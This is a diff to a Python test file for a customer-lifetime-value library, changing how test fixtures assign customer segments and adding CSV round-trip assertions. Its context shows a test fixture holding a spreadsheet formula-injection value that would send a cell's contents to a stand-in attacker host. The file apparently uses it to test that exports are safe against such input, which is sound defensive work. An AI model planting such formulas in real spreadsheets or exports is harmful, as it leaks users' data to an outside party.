@@ -23,7 +23,7 @@ from clvlab.export import (
     write_csv,
     write_workbook,
 )
-from clvlab.scoring import SCORE_COLUMNS, SEGMENTS
+from clvlab.scoring import SCORE_COLUMNS, SEGMENTS, assign_segments
 
 HOSTILE_IDS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -55,12 +55,11 @@ def _scores(ids: list[str], rng: np.random.Generator) -> pd.DataFrame:
             "clv": rng.normal(50, 40, n),  # some negative: numbers must stay numbers
             "clv_baseline": rng.gamma(2, 20, n),
             "historical_spend": rng.gamma(2, 30, n),
-            "segment": pd.Categorical(
-                [SEGMENTS[i % len(SEGMENTS)] for i in range(n)], categories=list(SEGMENTS)
-            ),
         },
         index=pd.Index(ids, name="customer_id"),
     )
+    # segments by the documented rules (frequency 0 -> "One-time buyers")
+    frame["segment"] = assign_segments(frame).array
     return frame
 
 
@@ -136,6 +135,11 @@ def test_csv_round_trips_every_column(tmp_path, rng):
     np.testing.assert_allclose(back[num].to_numpy(), scores[num].to_numpy(), rtol=0)
     assert np.isnan(back.loc["c3", "clv_baseline"])
     assert back["segment"].tolist() == scores["segment"].astype(str).tolist()
+    # all six segment names survive as text; one-time buyers are the frequency-0 rows
+    assert set(back["segment"]) == set(SEGMENTS)
+    np.testing.assert_array_equal(
+        (back["segment"] == "One-time buyers").to_numpy(), (back["frequency"] == 0).to_numpy()
+    )
 
 
 @settings(max_examples=25, deadline=None)
